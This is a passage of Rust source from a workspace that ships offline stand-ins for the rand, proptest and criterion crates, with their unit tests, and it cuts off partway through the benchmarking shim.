        let t = table("a = f'{x}!'\nb = r'\\d+'\nc = b'blob'\n");
        assert_eq!(t.literals, vec!["\\d+".to_owned(), "blob".to_owned()]);
    }

    #[test]
    fn survives_unparsable_statements() {
        // The parser degrades this line to Stmt::Other, but the token
        // stream still carries the literal.
        let t = table("try ::= 'aGlkZGVu' @@\n");
        assert!(t.literals.contains(&"aGlkZGVu".to_owned()));
    }

    #[test]
    fn empty_source_yields_empty_table() {
        let t = table("x = 1\n");
        assert!(t.is_empty());
        assert_eq!(t.first_line(0), None);
    }
}

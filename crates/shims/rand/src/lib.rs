//! Offline stand-in for the `rand` crate.
//!
//! The build environment has no registry access, so this workspace ships
//! the small API subset it actually uses: [`rngs::StdRng`], the [`Rng`]
//! extension trait (`gen_range`, `gen_bool`) and [`SeedableRng`]
//! (`seed_from_u64`). The generator is SplitMix64 — deterministic,
//! well-distributed, and more than good enough for synthetic-corpus
//! generation (nothing here is cryptographic).
//!
//! The stream differs from upstream `rand`'s ChaCha-based `StdRng`, which
//! is fine: every consumer in this workspace treats the generator as an
//! opaque deterministic source.

#![forbid(unsafe_code)]

use std::ops::{Range, RangeInclusive};

/// Seedable generators (API subset of `rand::SeedableRng`).
pub trait SeedableRng: Sized {
    /// Creates a generator from a 64-bit seed.
    fn seed_from_u64(seed: u64) -> Self;
}

/// Types that can be sampled uniformly from a range.
pub trait SampleUniform: Copy {
    /// Samples uniformly from `[low, high)`.
    fn sample_half_open(rng: &mut rngs::StdRng, low: Self, high: Self) -> Self;
    /// Samples uniformly from `[low, high]`.
    fn sample_closed(rng: &mut rngs::StdRng, low: Self, high: Self) -> Self;
}

/// Range argument accepted by [`Rng::gen_range`].
pub trait SampleRange<T> {
    /// Samples a value from the range.
    fn sample(self, rng: &mut rngs::StdRng) -> T;
}

impl<T: SampleUniform> SampleRange<T> for Range<T> {
    fn sample(self, rng: &mut rngs::StdRng) -> T {
        T::sample_half_open(rng, self.start, self.end)
    }
}

impl<T: SampleUniform> SampleRange<T> for RangeInclusive<T> {
    fn sample(self, rng: &mut rngs::StdRng) -> T {
        let (low, high) = self.into_inner();
        T::sample_closed(rng, low, high)
    }
}

macro_rules! impl_sample_uniform_int {
    ($($t:ty),*) => {$(
        impl SampleUniform for $t {
            fn sample_half_open(rng: &mut rngs::StdRng, low: Self, high: Self) -> Self {
                assert!(low < high, "gen_range: empty range");
                let span = (high as i128 - low as i128) as u128;
                low.wrapping_add((rng.next_u64() as u128 % span) as $t)
            }
            fn sample_closed(rng: &mut rngs::StdRng, low: Self, high: Self) -> Self {
                assert!(low <= high, "gen_range: empty range");
                let span = (high as i128 - low as i128) as u128 + 1;
                low.wrapping_add((rng.next_u64() as u128 % span) as $t)
            }
        }
    )*};
}

impl_sample_uniform_int!(u8, u16, u32, u64, usize, i8, i16, i32, i64, isize);

macro_rules! impl_sample_uniform_float {
    ($($t:ty),*) => {$(
        impl SampleUniform for $t {
            fn sample_half_open(rng: &mut rngs::StdRng, low: Self, high: Self) -> Self {
                assert!(low < high, "gen_range: empty range");
                let unit = (rng.next_u64() >> 11) as $t / (1u64 << 53) as $t;
                low + unit * (high - low)
            }
            fn sample_closed(rng: &mut rngs::StdRng, low: Self, high: Self) -> Self {
                Self::sample_half_open(rng, low, high)
            }
        }
    )*};
}

impl_sample_uniform_float!(f32, f64);

/// Random value generation (API subset of `rand::Rng`).
pub trait Rng {
    /// The next raw 64 random bits.
    fn next_u64(&mut self) -> u64;

    /// Samples uniformly from `range` (`a..b` or `a..=b`).
    fn gen_range<T, R>(&mut self, range: R) -> T
    where
        T: SampleUniform,
        R: SampleRange<T>;

    /// Returns `true` with probability `p`.
    fn gen_bool(&mut self, p: f64) -> bool;
}

pub mod rngs {
    //! Concrete generator types.

    use super::{Rng, SampleRange, SampleUniform, SeedableRng};

    /// The workspace's standard deterministic generator (SplitMix64).
    #[derive(Debug, Clone)]
    pub struct StdRng {
        state: u64,
    }

    impl StdRng {
        pub(crate) fn next_raw(&mut self) -> u64 {
            self.state = self.state.wrapping_add(0x9E37_79B9_7F4A_7C15);
            let mut z = self.state;
            z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
            z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
            z ^ (z >> 31)
        }
    }

    impl SeedableRng for StdRng {
        fn seed_from_u64(seed: u64) -> Self {
            StdRng { state: seed }
        }
    }

    impl Rng for StdRng {
        fn next_u64(&mut self) -> u64 {
            self.next_raw()
        }

        fn gen_range<T, R>(&mut self, range: R) -> T
        where
            T: SampleUniform,
            R: SampleRange<T>,
        {
            range.sample(self)
        }

        fn gen_bool(&mut self, p: f64) -> bool {
            debug_assert!((0.0..=1.0).contains(&p));
            let unit = (self.next_raw() >> 11) as f64 / (1u64 << 53) as f64;
            unit < p
        }
    }
}

#[cfg(test)]
mod tests {
    use super::rngs::StdRng;
    use super::{Rng, SeedableRng};

    #[test]
    fn deterministic_for_same_seed() {
        let mut a = StdRng::seed_from_u64(7);
        let mut b = StdRng::seed_from_u64(7);
        for _ in 0..100 {
            assert_eq!(a.next_u64(), b.next_u64());
        }
    }

    #[test]
    fn ranges_respected() {
        let mut rng = StdRng::seed_from_u64(1);
        for _ in 0..1000 {
            let v: usize = rng.gen_range(3..17);
            assert!((3..17).contains(&v));
            let w: u64 = rng.gen_range(5..=5);
            assert_eq!(w, 5);
            let f: f64 = rng.gen_range(-1.0..1.0);
            assert!((-1.0..1.0).contains(&f));
            let i: i64 = rng.gen_range(-10..10);
            assert!((-10..10).contains(&i));
        }
    }

    #[test]
    fn gen_bool_extremes() {
        let mut rng = StdRng::seed_from_u64(2);
        assert!(!(0..100).any(|_| rng.gen_bool(0.0)));
        assert!((0..100).all(|_| rng.gen_bool(1.0)));
    }

    #[test]
    fn gen_bool_roughly_calibrated() {
        let mut rng = StdRng::seed_from_u64(3);
        let hits = (0..10_000).filter(|_| rng.gen_bool(0.25)).count();
        assert!((2000..3000).contains(&hits), "{hits}");
    }
}

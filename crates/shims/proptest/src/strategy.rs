//! Value-generation strategies for the [`proptest!`](crate::proptest) macro.

use std::collections::BTreeMap;
use std::marker::PhantomData;
use std::ops::Range;

use crate::test_runner::TestRng;

/// A source of generated values.
pub trait Strategy {
    /// The generated type.
    type Value;
    /// Generates one value.
    fn generate(&self, rng: &mut TestRng) -> Self::Value;

    /// Maps generated values through `f` (mirror of
    /// `proptest::strategy::Strategy::prop_map`).
    fn prop_map<T, F>(self, f: F) -> Map<Self, F>
    where
        Self: Sized,
        F: Fn(Self::Value) -> T,
    {
        Map { inner: self, f }
    }

    /// Retries generation until `f` accepts a value (mirror of
    /// `prop_filter`; `reason` is reported if no value ever passes).
    fn prop_filter<F>(self, reason: &'static str, f: F) -> Filter<Self, F>
    where
        Self: Sized,
        F: Fn(&Self::Value) -> bool,
    {
        Filter {
            inner: self,
            reason,
            f,
        }
    }
}

// ----------------------------------------------------------- combinators

/// Strategy returned by [`Strategy::prop_map`].
pub struct Map<S, F> {
    inner: S,
    f: F,
}

impl<S, T, F> Strategy for Map<S, F>
where
    S: Strategy,
    F: Fn(S::Value) -> T,
{
    type Value = T;
    fn generate(&self, rng: &mut TestRng) -> T {
        (self.f)(self.inner.generate(rng))
    }
}

/// Strategy returned by [`Strategy::prop_filter`].
pub struct Filter<S, F> {
    inner: S,
    reason: &'static str,
    f: F,
}

impl<S, F> Strategy for Filter<S, F>
where
    S: Strategy,
    F: Fn(&S::Value) -> bool,
{
    type Value = S::Value;
    fn generate(&self, rng: &mut TestRng) -> S::Value {
        for _ in 0..1000 {
            let candidate = self.inner.generate(rng);
            if (self.f)(&candidate) {
                return candidate;
            }
        }
        panic!("prop_filter never accepted a value: {}", self.reason);
    }
}

/// A constant strategy (mirror of `proptest::strategy::Just`).
#[derive(Debug, Clone)]
pub struct Just<T: Clone>(pub T);

impl<T: Clone> Strategy for Just<T> {
    type Value = T;
    fn generate(&self, _rng: &mut TestRng) -> T {
        self.0.clone()
    }
}

/// A uniform choice between boxed strategies — the engine behind
/// [`prop_oneof!`](crate::prop_oneof).
pub struct Union<T> {
    options: Vec<Box<dyn Strategy<Value = T>>>,
}

impl<T> Union<T> {
    /// Builds a union over `options` (must be non-empty).
    pub fn new(options: Vec<Box<dyn Strategy<Value = T>>>) -> Self {
        assert!(!options.is_empty(), "empty prop_oneof");
        Union { options }
    }
}

impl<T> Strategy for Union<T> {
    type Value = T;
    fn generate(&self, rng: &mut TestRng) -> T {
        let idx = rng.below(self.options.len() as u64) as usize;
        self.options[idx].generate(rng)
    }
}

/// Uniformly selects one of `options` (mirror of
/// `proptest::sample::select`).
pub fn select<T: Clone>(options: impl Into<Vec<T>>) -> Select<T> {
    let options = options.into();
    assert!(!options.is_empty(), "empty select");
    Select { options }
}

/// Strategy returned by [`select`].
pub struct Select<T: Clone> {
    options: Vec<T>,
}

impl<T: Clone> Strategy for Select<T> {
    type Value = T;
    fn generate(&self, rng: &mut TestRng) -> T {
        let idx = rng.below(self.options.len() as u64) as usize;
        self.options[idx].clone()
    }
}

// ---------------------------------------------------------------- tuples

macro_rules! impl_tuple_strategy {
    ($($s:ident : $idx:tt),+) => {
        impl<$($s: Strategy),+> Strategy for ($($s,)+) {
            type Value = ($($s::Value,)+);
            fn generate(&self, rng: &mut TestRng) -> Self::Value {
                ($(self.$idx.generate(rng),)+)
            }
        }
    };
}

impl_tuple_strategy!(S0: 0);
impl_tuple_strategy!(S0: 0, S1: 1);
impl_tuple_strategy!(S0: 0, S1: 1, S2: 2);
impl_tuple_strategy!(S0: 0, S1: 1, S2: 2, S3: 3);

// ---------------------------------------------------------------- ranges

macro_rules! impl_range_strategy {
    ($($t:ty),*) => {$(
        impl Strategy for Range<$t> {
            type Value = $t;
            fn generate(&self, rng: &mut TestRng) -> $t {
                assert!(self.start < self.end, "empty range strategy");
                let span = (self.end as i128 - self.start as i128) as u128;
                self.start.wrapping_add((rng.next_u64() as u128 % span) as $t)
            }
        }
    )*};
}

impl_range_strategy!(u8, u16, u32, u64, usize, i8, i16, i32, i64, isize);

// ------------------------------------------------------------------- any

/// Types with a canonical "any value" strategy.
pub trait Arbitrary: Sized {
    /// Generates an arbitrary value.
    fn arbitrary(rng: &mut TestRng) -> Self;
}

macro_rules! impl_arbitrary_int {
    ($($t:ty),*) => {$(
        impl Arbitrary for $t {
            fn arbitrary(rng: &mut TestRng) -> Self {
                rng.next_u64() as $t
            }
        }
    )*};
}

impl_arbitrary_int!(u8, u16, u32, u64, usize, i8, i16, i32, i64, isize);

impl Arbitrary for bool {
    fn arbitrary(rng: &mut TestRng) -> Self {
        rng.next_u64() & 1 == 1
    }
}

impl Arbitrary for f64 {
    fn arbitrary(rng: &mut TestRng) -> Self {
        (rng.next_u64() >> 11) as f64 / (1u64 << 53) as f64
    }
}

/// Strategy produced by [`any`].
pub struct AnyStrategy<T>(PhantomData<T>);

impl<T: Arbitrary> Strategy for AnyStrategy<T> {
    type Value = T;
    fn generate(&self, rng: &mut TestRng) -> T {
        T::arbitrary(rng)
    }
}

/// An arbitrary value of `T` (mirror of `proptest::prelude::any`).
pub fn any<T: Arbitrary>() -> AnyStrategy<T> {
    AnyStrategy(PhantomData)
}

// ----------------------------------------------------------- collections

/// Strategy for `Vec<T>` with a length range.
pub struct VecStrategy<S> {
    element: S,
    len: Range<usize>,
}

impl<S: Strategy> Strategy for VecStrategy<S> {
    type Value = Vec<S::Value>;
    fn generate(&self, rng: &mut TestRng) -> Self::Value {
        let len = self.len.generate(rng);
        (0..len).map(|_| self.element.generate(rng)).collect()
    }
}

/// `prop::collection::vec(element, len_range)`.
pub fn vec<S: Strategy>(element: S, len: Range<usize>) -> VecStrategy<S> {
    VecStrategy { element, len }
}

/// Strategy for `BTreeMap<K, V>` with a size range.
pub struct BTreeMapStrategy<K, V> {
    key: K,
    value: V,
    len: Range<usize>,
}

impl<K, V> Strategy for BTreeMapStrategy<K, V>
where
    K: Strategy,
    K::Value: Ord,
    V: Strategy,
{
    type Value = BTreeMap<K::Value, V::Value>;
    fn generate(&self, rng: &mut TestRng) -> Self::Value {
        let len = self.len.generate(rng);
        let mut out = BTreeMap::new();
        // A few extra draws compensate for duplicate keys.
        let mut attempts = 0;
        while out.len() < len && attempts < len * 4 + 8 {
            out.insert(self.key.generate(rng), self.value.generate(rng));
            attempts += 1;
        }
        out
    }
}

/// `prop::collection::btree_map(key, value, size_range)`.
pub fn btree_map<K: Strategy, V: Strategy>(
    key: K,
    value: V,
    len: Range<usize>,
) -> BTreeMapStrategy<K, V> {
    BTreeMapStrategy { key, value, len }
}

// --------------------------------------------------- regex string literals

/// A `&str` is interpreted as a regex generator, as in upstream proptest.
///
/// Supported shape (covers every pattern in this workspace's tests):
/// a sequence of atoms, where an atom is a character class `[...]` (with
/// ranges and `\n`/`\t`/`\r`/`\\` escapes) or a literal/escaped character,
/// each followed by an optional `{m}`, `{m,n}`, `*`, `+` or `?`.
impl Strategy for &str {
    type Value = String;
    fn generate(&self, rng: &mut TestRng) -> String {
        let atoms = parse_pattern(self)
            .unwrap_or_else(|e| panic!("unsupported generator regex {self:?}: {e}"));
        let mut out = String::new();
        for atom in &atoms {
            let n = if atom.min == atom.max {
                atom.min
            } else {
                atom.min + rng.below((atom.max - atom.min + 1) as u64) as usize
            };
            for _ in 0..n {
                let idx = rng.below(atom.chars.len() as u64) as usize;
                out.push(atom.chars[idx]);
            }
        }
        out
    }
}

struct Atom {
    chars: Vec<char>,
    min: usize,
    max: usize,
}

fn parse_pattern(pattern: &str) -> Result<Vec<Atom>, String> {
    let chars: Vec<char> = pattern.chars().collect();
    let mut i = 0;
    let mut atoms = Vec::new();
    while i < chars.len() {
        let set = match chars[i] {
            '[' => {
                let (set, next) = parse_class(&chars, i + 1)?;
                i = next;
                set
            }
            '\\' => {
                let (c, next) = parse_escape(&chars, i + 1)?;
                i = next;
                vec![c]
            }
            c => {
                i += 1;
                vec![c]
            }
        };
        if set.is_empty() {
            return Err("empty character class".into());
        }
        let (min, max, next) = parse_quantifier(&chars, i)?;
        i = next;
        atoms.push(Atom {
            chars: set,
            min,
            max,
        });
    }
    Ok(atoms)
}

fn parse_escape(chars: &[char], i: usize) -> Result<(char, usize), String> {
    let Some(&c) = chars.get(i) else {
        return Err("dangling escape".into());
    };
    let resolved = match c {
        'n' => '\n',
        't' => '\t',
        'r' => '\r',
        other => other,
    };
    Ok((resolved, i + 1))
}

fn parse_class(chars: &[char], mut i: usize) -> Result<(Vec<char>, usize), String> {
    let mut set = Vec::new();
    let mut pending: Option<char> = None;
    while i < chars.len() && chars[i] != ']' {
        let c = if chars[i] == '\\' {
            let (c, next) = parse_escape(chars, i + 1)?;
            i = next;
            c
        } else if chars[i] == '-' && pending.is_some() && i + 1 < chars.len() && chars[i + 1] != ']'
        {
            // Range: pending-X.
            let lo = pending.take().expect("checked");
            i += 1;
            let hi = if chars[i] == '\\' {
                let (c, next) = parse_escape(chars, i + 1)?;
                i = next;
                c
            } else {
                let c = chars[i];
                i += 1;
                c
            };
            if lo > hi {
                return Err(format!("inverted range {lo}-{hi}"));
            }
            for code in (lo as u32)..=(hi as u32) {
                if let Some(ch) = char::from_u32(code) {
                    set.push(ch);
                }
            }
            continue;
        } else {
            let c = chars[i];
            i += 1;
            c
        };
        if let Some(prev) = pending.replace(c) {
            set.push(prev);
        }
    }
    if i >= chars.len() {
        return Err("unterminated character class".into());
    }
    if let Some(prev) = pending {
        set.push(prev);
    }
    Ok((set, i + 1))
}

fn parse_quantifier(chars: &[char], i: usize) -> Result<(usize, usize, usize), String> {
    match chars.get(i) {
        Some('{') => {
            let close = chars[i..]
                .iter()
                .position(|&c| c == '}')
                .ok_or("unterminated quantifier")?
                + i;
            let body: String = chars[i + 1..close].iter().collect();
            let (min, max) = match body.split_once(',') {
                Some((lo, hi)) => (
                    lo.trim().parse().map_err(|_| "bad quantifier")?,
                    hi.trim().parse().map_err(|_| "bad quantifier")?,
                ),
                None => {
                    let n: usize = body.trim().parse().map_err(|_| "bad quantifier")?;
                    (n, n)
                }
            };
            if min > max {
                return Err("inverted quantifier".into());
            }
            Ok((min, max, close + 1))
        }
        Some('*') => Ok((0, 8, i + 1)),
        Some('+') => Ok((1, 8, i + 1)),
        Some('?') => Ok((0, 1, i + 1)),
        _ => Ok((1, 1, i)),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::test_runner::TestRng;

    fn rng() -> TestRng {
        TestRng::new(42)
    }

    #[test]
    fn class_with_range_and_repeat() {
        let mut r = rng();
        for _ in 0..200 {
            let s = "[a-c]{2,5}".generate(&mut r);
            assert!((2..=5).contains(&s.len()), "{s:?}");
            assert!(s.chars().all(|c| ('a'..='c').contains(&c)), "{s:?}");
        }
    }

    #[test]
    fn printable_class_with_escape() {
        let mut r = rng();
        for _ in 0..200 {
            let s = "[ -~\\n]{0,40}".generate(&mut r);
            assert!(s.len() <= 40);
            assert!(
                s.chars().all(|c| c == '\n' || (' '..='~').contains(&c)),
                "{s:?}"
            );
        }
    }

    #[test]
    fn trailing_dash_is_literal() {
        let mut r = rng();
        let mut saw_dash = false;
        for _ in 0..500 {
            let s = "[a-b._-]{1,3}".generate(&mut r);
            assert!(s.chars().all(|c| "ab._-".contains(c)), "{s:?}");
            saw_dash |= s.contains('-');
        }
        assert!(saw_dash);
    }

    #[test]
    fn multi_atom_sequences() {
        let mut r = rng();
        for _ in 0..200 {
            let s = "[a-z][a-z0-9]{0,8}".generate(&mut r);
            assert!(!s.is_empty() && s.len() <= 9);
            assert!(s.chars().next().expect("nonempty").is_ascii_lowercase());
        }
    }

    #[test]
    fn exact_count_quantifier() {
        let mut r = rng();
        let s = "[x]{7}".generate(&mut r);
        assert_eq!(s, "xxxxxxx");
    }

    #[test]
    fn range_strategy_bounds() {
        let mut r = rng();
        for _ in 0..500 {
            let v = (3usize..9).generate(&mut r);
            assert!((3..9).contains(&v));
        }
    }

    #[test]
    fn vec_strategy_lengths() {
        let mut r = rng();
        for _ in 0..100 {
            let v = vec(any::<u8>(), 1..5).generate(&mut r);
            assert!((1..5).contains(&v.len()));
        }
    }

    #[test]
    fn prop_map_transforms_values() {
        let mut r = rng();
        let s = (1usize..5).prop_map(|n| n * 10);
        for _ in 0..100 {
            let v = s.generate(&mut r);
            assert!((10..50).contains(&v) && v % 10 == 0);
        }
    }

    #[test]
    fn prop_filter_rejects_values() {
        let mut r = rng();
        let s = (0usize..10).prop_filter("even only", |n| n % 2 == 0);
        for _ in 0..100 {
            assert_eq!(s.generate(&mut r) % 2, 0);
        }
    }

    #[test]
    fn just_is_constant() {
        let mut r = rng();
        assert_eq!(Just(7u8).generate(&mut r), 7);
    }

    #[test]
    fn select_draws_from_options() {
        let mut r = rng();
        let s = select(&["a", "b", "c"][..]);
        let mut seen = std::collections::BTreeSet::new();
        for _ in 0..200 {
            seen.insert(s.generate(&mut r));
        }
        assert_eq!(seen.len(), 3);
    }

    #[test]
    fn union_covers_all_arms() {
        let mut r = rng();
        let s = crate::prop_oneof![Just(1u8), Just(2u8), Just(3u8)];
        let mut seen = std::collections::BTreeSet::new();
        for _ in 0..200 {
            seen.insert(s.generate(&mut r));
        }
        assert_eq!(seen.len(), 3);
    }

    #[test]
    fn tuple_strategies_generate_componentwise() {
        let mut r = rng();
        for _ in 0..100 {
            let (a, b, c) = ((0usize..3), "[x-z]{1}", Just(9u8)).generate(&mut r);
            assert!(a < 3);
            assert_eq!(b.len(), 1);
            assert_eq!(c, 9);
        }
    }

    #[test]
    fn btree_map_sizes() {
        let mut r = rng();
        for _ in 0..100 {
            let m = btree_map("[a-z]{1,6}", any::<u8>(), 1..6).generate(&mut r);
            assert!(!m.is_empty() && m.len() < 6);
        }
    }
}

//! Deterministic test-runner plumbing for the [`proptest!`](crate::proptest) macro.

/// Per-test configuration.
#[derive(Debug, Clone)]
pub struct ProptestConfig {
    /// Number of generated cases per test.
    pub cases: u32,
}

impl ProptestConfig {
    /// Config running `cases` cases.
    pub fn with_cases(cases: u32) -> Self {
        ProptestConfig { cases }
    }
}

impl Default for ProptestConfig {
    fn default() -> Self {
        // Upstream defaults to 256; 48 keeps the offline suite fast while
        // still exercising plenty of inputs per property.
        ProptestConfig { cases: 48 }
    }
}

/// Why a case did not pass.
#[derive(Debug)]
pub enum TestCaseError {
    /// `prop_assume!` rejected the inputs; the case is skipped.
    Reject(String),
    /// An assertion failed; the test fails.
    Fail(String),
}

/// Deterministic case scheduler: derives one RNG stream per (test, case).
#[derive(Debug)]
pub struct TestRunner {
    config: ProptestConfig,
    test_seed: u64,
}

impl TestRunner {
    /// Creates a runner for the named test.
    pub fn new(config: ProptestConfig, test_name: &str) -> Self {
        let mut seed = 0xcbf2_9ce4_8422_2325u64;
        for b in test_name.bytes() {
            seed ^= u64::from(b);
            seed = seed.wrapping_mul(0x0000_0100_0000_01B3);
        }
        TestRunner {
            config,
            test_seed: seed,
        }
    }

    /// Number of cases to run.
    pub fn cases(&self) -> u32 {
        self.config.cases
    }

    /// The RNG for one case, independent of all other cases.
    pub fn rng_for_case(&mut self, case: u32) -> TestRng {
        TestRng::new(self.test_seed ^ (u64::from(case).wrapping_mul(0x9E37_79B9_7F4A_7C15)))
    }
}

/// SplitMix64 stream backing generated values.
#[derive(Debug, Clone)]
pub struct TestRng {
    state: u64,
}

impl TestRng {
    /// Creates a stream from a seed.
    pub fn new(seed: u64) -> Self {
        TestRng { state: seed }
    }

    /// Next raw 64 bits.
    pub fn next_u64(&mut self) -> u64 {
        self.state = self.state.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.state;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }

    /// Uniform value in `[0, bound)`; `bound` must be non-zero.
    pub fn below(&mut self, bound: u64) -> u64 {
        self.next_u64() % bound
    }
}

//! Offline stand-in for the `proptest` crate.
//!
//! The build environment has no registry access, so this workspace ships
//! the subset of proptest it actually uses:
//!
//! * the [`proptest!`] macro (with an optional
//!   `#![proptest_config(...)]` inner attribute);
//! * `prop_assert!` / `prop_assert_eq!` / `prop_assert_ne!` /
//!   `prop_assume!`;
//! * [`Strategy`] implementations for `&str` regex literals (character
//!   classes with `{m,n}` repetition — the only regex shape the test
//!   suite uses), integer ranges, [`any`] for primitives, tuples,
//!   `prop::collection::{vec, btree_map}` and `prop::sample::select`;
//! * the combinators `prop_map`, `prop_filter`, `Just` and the
//!   [`prop_oneof!`] macro (uniform arms, no weights).
//!
//! Cases are generated from a deterministic per-test SplitMix64 stream,
//! so failures reproduce across runs. There is no shrinking: a failing
//! case reports the panic message with the case number.

#![forbid(unsafe_code)]

pub mod strategy;
pub mod test_runner;

pub mod prop {
    //! Namespace mirror of `proptest::prop`.
    pub mod collection {
        //! Collection strategies.
        pub use crate::strategy::{btree_map, vec};
    }
    pub mod sample {
        //! Sampling strategies.
        pub use crate::strategy::select;
    }
}

pub mod prelude {
    //! One-stop import mirroring `proptest::prelude`.
    pub use crate::strategy::{any, Just, Strategy};
    pub use crate::test_runner::{ProptestConfig, TestCaseError, TestRunner};
    pub use crate::{
        prop, prop_assert, prop_assert_eq, prop_assert_ne, prop_assume, prop_oneof, proptest,
    };
}

/// Declares deterministic property tests.
///
/// Supports the upstream surface used in this workspace:
///
/// ```ignore
/// proptest! {
///     #![proptest_config(ProptestConfig::with_cases(24))]
///     #[test]
///     fn name(x in 0usize..10, s in "[a-z]{1,4}") { prop_assert!(x < 10); }
/// }
/// ```
#[macro_export]
macro_rules! proptest {
    (#![proptest_config($cfg:expr)] $($rest:tt)*) => {
        $crate::__proptest_impl!{ ($cfg) $($rest)* }
    };
    ($($rest:tt)*) => {
        $crate::__proptest_impl!{ ($crate::test_runner::ProptestConfig::default()) $($rest)* }
    };
}

#[doc(hidden)]
#[macro_export]
macro_rules! __proptest_impl {
    (($cfg:expr)) => {};
    (($cfg:expr)
     $(#[$attr:meta])*
     fn $name:ident($($arg:ident in $strat:expr),+ $(,)?) $body:block
     $($rest:tt)*) => {
        $(#[$attr])*
        fn $name() {
            let config: $crate::test_runner::ProptestConfig = $cfg;
            let mut runner = $crate::test_runner::TestRunner::new(config, stringify!($name));
            for case in 0..runner.cases() {
                let mut rng = runner.rng_for_case(case);
                $(let $arg = $crate::strategy::Strategy::generate(&($strat), &mut rng);)+
                let outcome: ::std::result::Result<(), $crate::test_runner::TestCaseError> =
                    (|| { $body ::std::result::Result::Ok(()) })();
                match outcome {
                    ::std::result::Result::Ok(()) => {}
                    ::std::result::Result::Err($crate::test_runner::TestCaseError::Reject(_)) => {}
                    ::std::result::Result::Err($crate::test_runner::TestCaseError::Fail(msg)) => {
                        panic!(
                            "proptest case {case} failed: {msg}\n  inputs: {}",
                            concat!($(stringify!($arg), " "),+)
                        );
                    }
                }
            }
        }
        $crate::__proptest_impl!{ ($cfg) $($rest)* }
    };
}

/// A uniform choice between strategies producing the same value type
/// (mirror of `proptest::prop_oneof!`; no per-arm weights).
#[macro_export]
macro_rules! prop_oneof {
    ($($strat:expr),+ $(,)?) => {
        $crate::strategy::Union::new(vec![
            $(::std::boxed::Box::new($strat)),+
        ])
    };
}

/// Fails the current case unless `cond` holds.
#[macro_export]
macro_rules! prop_assert {
    ($cond:expr) => {
        $crate::prop_assert!($cond, "assertion failed: {}", stringify!($cond))
    };
    ($cond:expr, $($fmt:tt)+) => {
        if !($cond) {
            return ::std::result::Result::Err($crate::test_runner::TestCaseError::Fail(
                format!($($fmt)+),
            ));
        }
    };
}

/// Fails the current case unless `left == right`.
#[macro_export]
macro_rules! prop_assert_eq {
    ($left:expr, $right:expr $(,)?) => {{
        let (l, r) = (&$left, &$right);
        $crate::prop_assert!(*l == *r, "assertion failed: `{:?}` == `{:?}`", l, r);
    }};
    ($left:expr, $right:expr, $($fmt:tt)+) => {{
        let (l, r) = (&$left, &$right);
        $crate::prop_assert!(
            *l == *r,
            "assertion failed: `{:?}` == `{:?}`: {}",
            l,
            r,
            format!($($fmt)+)
        );
    }};
}

/// Fails the current case unless `left != right`.
#[macro_export]
macro_rules! prop_assert_ne {
    ($left:expr, $right:expr $(,)?) => {{
        let (l, r) = (&$left, &$right);
        $crate::prop_assert!(*l != *r, "assertion failed: `{:?}` != `{:?}`", l, r);
    }};
    ($left:expr, $right:expr, $($fmt:tt)+) => {{
        let (l, r) = (&$left, &$right);
        $crate::prop_assert!(
            *l != *r,
            "assertion failed: `{:?}` != `{:?}`: {}",
            l,
            r,
            format!($($fmt)+)
        );
    }};
}

/// Skips the current case unless `cond` holds.
#[macro_export]
macro_rules! prop_assume {
    ($cond:expr) => {
        if !($cond) {
            return ::std::result::Result::Err($crate::test_runner::TestCaseError::Reject(
                stringify!($cond).to_owned(),
            ));
        }
    };
}

//! Offline stand-in for the `criterion` crate.
//!
//! The build environment has no registry access, so this workspace ships a
//! minimal wall-clock harness exposing the API surface its benches use:
//! [`Criterion`], [`BenchmarkGroup`] (`sample_size`, `throughput`,
//! `bench_function`, `bench_with_input`, `finish`), [`BenchmarkId`],
//! [`Throughput`] and the [`criterion_group!`] / [`criterion_main!`]
//! macros.
//!
//! Each benchmark is auto-calibrated to a small time budget and reports
//! mean wall-clock time per iteration (plus throughput when configured).
//! Passing `--test` (as `cargo test` does for harness-less bench targets)
//! runs every benchmark exactly once as a smoke test.

#![forbid(unsafe_code)]

use std::time::{Duration, Instant};

/// Measurement budget per benchmark in normal mode.
const BUDGET: Duration = Duration::from_millis(300);

/// Throughput basis for a benchmark group.
#[derive(Debug, Clone, Copy)]
pub enum Throughput {
    /// Bytes processed per iteration.
    Bytes(u64),
    /// Elements processed per iteration.
    Elements(u64),
}

/// Identifier for a parameterized benchmark.
#[derive(Debug, Clone)]
pub struct BenchmarkId {
    label: String,
}

impl BenchmarkId {
    /// `function_name/parameter` form.
    pub fn new(function_name: impl std::fmt::Display, parameter: impl std::fmt::Display) -> Self {
        BenchmarkId {
            label: format!("{function_name}/{parameter}"),
        }
    }

    /// Parameter-only form.
    pub fn from_parameter(parameter: impl std::fmt::Display) -> Self {
        BenchmarkId {
            label: parameter.to_string(),
        }
    }
}

impl std::fmt::Display for BenchmarkId {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(&self.label)
    }
}

/// Passed to bench closures; drives the measured loop.
pub struct Bencher<'a> {
    smoke: bool,
    result: &'a mut Option<Sample>,
}

#[derive(Debug, Clone, Copy)]
struct Sample {
    mean: Duration,
    iters: u64,
}

impl Bencher<'_> {
    /// Times `routine`, auto-calibrating the iteration count.
    pub fn iter<O, R: FnMut() -> O>(&mut self, mut routine: R) {
        if self.smoke {
            std::hint::black_box(routine());
            *self.result = Some(Sample {
                mean: Duration::ZERO,
                iters: 1,
            });
            return;
        }
        // Calibrate: grow the batch until it costs ~1/10 of the budget.
        let mut batch: u64 = 1;
        let per_iter = loop {
            let start = Instant::now();
            for _ in 0..batch {
                std::hint::black_box(routine());
            }
            let elapsed = start.elapsed();
            if elapsed >= BUDGET / 10 || batch >= 1 << 20 {
                break elapsed / batch.max(1) as u32;
            }
            batch *= 4;
        };
        let total: u64 = if per_iter.is_zero() {
            batch * 10
        } else {
            (BUDGET.as_nanos() / per_iter.as_nanos().max(1)).clamp(1, 1 << 24) as u64
        };
        let start = Instant::now();
        for _ in 0..total {
            std::hint::black_box(routine());
        }
        let elapsed = start.elapsed();
        *self.result = Some(Sample {
            mean: elapsed / total.max(1) as u32,
            iters: total,
        });
    }
}

/// Benchmark driver (stand-in for `criterion::Criterion`).
pub struct Criterion {
    smoke: bool,
}

impl Default for Criterion {
